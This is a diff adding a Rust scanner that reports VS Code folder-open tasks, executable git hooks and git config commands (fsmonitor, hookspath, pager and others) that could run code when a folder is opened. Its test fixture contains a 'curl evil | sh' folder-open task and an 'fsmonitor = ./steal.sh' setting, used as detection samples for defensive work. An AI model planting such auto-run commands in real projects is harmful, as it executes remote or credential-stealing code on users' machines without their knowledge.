@@ -122,3 +122,100 @@ mod tests {
         assert!(e.contains("failed") && e.contains("no display"), "{e}");
     }
 }
+
+/// What in `dir` can run code when an editor opens it or git runs in it, in words: a
+/// `.vscode/tasks.json` task with `"runOn": "folderOpen"`, executable git hooks, and git's
+/// `core.fsmonitor` / `core.hooksPath` settings. A task wrote this folder; the person should
+/// know before their editor (or its git integration) runs any of it.
+pub fn code_that_runs_on_open(dir: &std::path::Path) -> Vec<String> {
+    use std::os::unix::fs::PermissionsExt;
+    let mut found = Vec::new();
+    let read = |p: &std::path::Path| {
+        // Small files only: these are settings, not data.
+        std::fs::metadata(p)
+            .ok()
+            .filter(|m| m.is_file() && m.len() < 1 << 20)
+            .and_then(|_| std::fs::read_to_string(p).ok())
+    };
+    let tasks = dir.join(".vscode/tasks.json");
+    if let Some(text) = read(&tasks) {
+        let compact: String = text.chars().filter(|c| !c.is_whitespace()).collect();
+        if compact.contains("\"runOn\":\"folderOpen\"") {
+            found.push(format!(
+                "{} has a task that runs when the folder is opened (\"runOn\": \"folderOpen\")",
+                tasks.display()
+            ));
+        }
+    }
+    let git = dir.join(".git");
+    if let Ok(hooks) = std::fs::read_dir(git.join("hooks")) {
+        let mut names: Vec<String> = hooks
+            .flatten()
+            .filter(|e| {
+                let name = e.file_name();
+                !name.to_string_lossy().ends_with(".sample")
+                    && e.metadata()
+                        .is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0)
+            })
+            .map(|e| e.file_name().to_string_lossy().into_owned())
+            .collect();
+        names.sort();
+        if !names.is_empty() {
+            found.push(format!(
+                "{} has git hooks that git runs for you: {}",
+                git.join("hooks").display(),
+                names.join(", ")
+            ));
+        }
+    }
+    if let Some(config) = read(&git.join("config")) {
+        for line in config.lines() {
+            let l = line.trim().to_ascii_lowercase();
+            for key in ["fsmonitor", "hookspath", "sshcommand", "pager", "editor"] {
+                if l.starts_with(key) && l[key.len()..].trim_start().starts_with('=') {
+                    found.push(format!(
+                        "{} sets `{}`, a command git runs (e.g. on every `git status`)",
+                        git.join("config").display(),
+                        line.trim()
+                    ));
+                }
+            }
+        }
+    }
+    found
+}
+
+#[cfg(test)]
+mod scan_tests {
+    use super::*;
+
+    #[test]
+    fn what_runs_on_open_is_named() {
+        let d = tempfile::tempdir().unwrap();
+        assert!(code_that_runs_on_open(d.path()).is_empty());
+        std::fs::create_dir_all(d.path().join(".vscode")).unwrap();
+        std::fs::write(
+            d.path().join(".vscode/tasks.json"),
+            r#"{"tasks": [{"label": "x", "command": "curl evil | sh", "runOptions": {"runOn": "folderOpen"}}]}"#,
+        )
+        .unwrap();
+        std::fs::create_dir_all(d.path().join(".git/hooks")).unwrap();
+        std::fs::write(d.path().join(".git/hooks/post-checkout"), "#!/bin/sh\n").unwrap();
+        std::fs::set_permissions(
+            d.path().join(".git/hooks/post-checkout"),
+            std::os::unix::fs::PermissionsExt::from_mode(0o755),
+        )
+        .unwrap();
+        std::fs::write(d.path().join(".git/hooks/pre-commit.sample"), "").unwrap();
+        std::fs::write(
+            d.path().join(".git/config"),
+            "[core]\n\tfsmonitor = ./steal.sh\n",
+        )
+        .unwrap();
+        let found = code_that_runs_on_open(d.path());
+        assert_eq!(found.len(), 3, "{found:?}");
+        assert!(found[0].contains("folderOpen"));
+        assert!(found[1].contains("post-checkout") && !found[1].contains("sample"));
+        assert!(found[2].contains("fsmonitor = ./steal.sh"));
+    }
+}
